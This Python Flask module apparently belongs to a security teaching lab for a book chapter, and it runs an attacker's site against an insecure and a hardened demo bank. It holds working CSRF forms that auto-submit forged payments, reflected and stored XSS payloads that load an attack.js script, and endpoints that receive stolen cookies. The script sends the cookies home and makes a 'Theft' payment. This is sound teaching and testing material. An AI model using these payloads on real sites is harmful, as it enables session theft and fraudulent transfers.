"""The attacker's site of chapter 11: the book's attack pages, made to work, and their loot.

The book's ``csrf.html`` and ``csrf_auto.html`` post a field named ``message`` where the app
wants ``memo``, so their forged payment fails validation and no money moves; its
``attack.js`` is a ``<script>`` block posting to ``localhost:5000``. These post the right fields
to wherever the lab's banks listen:

* ``/csrf/<bank>`` ("Win Big!"): a form that posts ``account=sam&dollars=330&memo=Dispute
  charge-back`` to the bank's ``/pay`` and submits itself (``?auto=0``: a button instead);
* ``/xss/<bank>``: a link into the bank, ``/?flash=<script src=".../attack.js">``, followed at
  once (``?auto=0``: only the link). :func:`stored_payload` is the same script as a memo;
* ``/attack.js``: runs in the bank's origin when an XSS lands: it sends ``document.cookie`` home
  and pays ``hacker`` $110 ("Theft") through the bank's own ``/pay``, fetching the form first
  so that it carries the CSRF token if there is one (XSS defeats CSRF tokens: only escaping
  and the CSP stop it);
* ``/steal`` records what the script sent; ``/log`` (JSON) lists every recorded event since
  ``?since=ID``: page views, script loads, stolen cookies and payment results.

``<bank>`` is ``insecure`` or ``hardened``; their URLs come from ``WIRELAB_BANK_INSECURE_URL``
and ``WIRELAB_BANK_HARDENED_URL`` (the lab sets them). The log is in memory, bounded
(:data:`MAX_EVENTS`), and so are the values it keeps (:data:`MAX_VALUE`).
"""

from __future__ import annotations

import itertools
import os
import threading
from collections import deque
from typing import Any
from urllib.parse import quote

from flask import Flask, Response, abort, jsonify, render_template, request

__all__ = ["CSRF_FORM", "THEFT", "attacker", "create_app", "reflected_url", "stored_payload"]

#: The forged payment of the CSRF pages (the book's, with ``memo`` named right).
CSRF_FORM = {"account": "sam", "dollars": "330", "memo": "Dispute charge-back"}
#: The payment the XSS script makes (the book's ``attack.js``).
THEFT = {"account": "hacker", "dollars": "110", "memo": "Theft"}
#: Events kept, and characters kept of each recorded value.
MAX_EVENTS = 1000
MAX_VALUE = 500
BANKS = ("insecure", "hardened")


def stored_payload(attacker_url: str) -> str:
    """The XSS payload: a script element loading the attacker's ``attack.js``."""
    return f'<script src="{attacker_url.rstrip("/")}/attack.js"></script>'


def reflected_url(bank_url: str, attacker_url: str) -> str:
    """The bank's front page with the payload in its ``flash`` parameter (reflected XSS)."""
    return f"{bank_url.rstrip('/')}/?flash={quote(stored_payload(attacker_url), safe='')}"


class _Log:
    """A bounded, thread-safe list of events with increasing ids."""

    def __init__(self) -> None:
        self._events: deque[dict[str, Any]] = deque(maxlen=MAX_EVENTS)
        self._ids = itertools.count(1)
        self._lock = threading.Lock()

    def add(self, kind: str, **data: str) -> None:
        with self._lock:
            event: dict[str, Any] = {"id": next(self._ids), "kind": kind}
            event.update({k: v[:MAX_VALUE] for k, v in data.items()})
            self._events.append(event)

    def since(self, first: int) -> list[dict[str, Any]]:
        with self._lock:
            return [e for e in self._events if e["id"] > first]


def create_app(banks: dict[str, str]) -> Flask:
    """The attacker's site, attacking the banks at ``banks`` (``{"insecure": URL, ...}``)."""
    app = Flask(__name__, template_folder="templates/attacker")
    app.config.update(MAX_CONTENT_LENGTH=4096, DEBUG=False)
    log = _Log()

    def bank_url(bank: str) -> str:
        url = banks.get(bank)
        if bank not in BANKS or not url:
            abort(404)
        return url

    def here() -> str:
        return request.host_url.rstrip("/")

    def html(name: str, **context: Any) -> Response:
        page = render_template(name, attacker=here(), banks=banks, **context)
        return Response(page, content_type="text/html; charset=utf-8")

    @app.route("/")
    def index() -> Response:
        return html("index.html", form=CSRF_FORM, theft=THEFT)

    @app.route("/csrf/<bank>")
    def csrf(bank: str) -> Response:
        target = bank_url(bank)
        log.add("csrf-page", bank=bank, cookie=request.headers.get("Cookie", ""))
        auto = request.args.get("auto", "1") != "0"
        return html("csrf.html", bank=bank, action=f"{target}/pay", form=CSRF_FORM, auto=auto)

    @app.route("/xss/<bank>")
    def xss(bank: str) -> Response:
        link = reflected_url(bank_url(bank), here())
        log.add("xss-page", bank=bank)
        auto = request.args.get("auto", "1") != "0"
        return html("xss.html", bank=bank, link=link, auto=auto)

    @app.route("/attack.js")
    def attack_js() -> Response:
        log.add("script", referer=request.headers.get("Referer", ""))
        script = render_template("attack.js", attacker=here(), theft=THEFT)
        return Response(script, content_type="text/javascript; charset=utf-8")

    @app.route("/steal")
    def steal() -> Response:
        log.add("stolen", **{k: v for k, v in list(request.args.items())[:8]})
        return Response(status=204)

    @app.route("/log")
    def events() -> Response:
        try:
            since = int(request.args.get("since", "0"))
        except ValueError:
            abort(400)
        return jsonify(log.since(since))

    return app


def attacker() -> Flask:
    """The app as gunicorn loads it (``wirelab.web.bank.attacker:attacker()``)."""
    return create_app(
        {bank: os.environ.get(f"WIRELAB_BANK_{bank.upper()}_URL", "").rstrip("/") for bank in BANKS}
    )
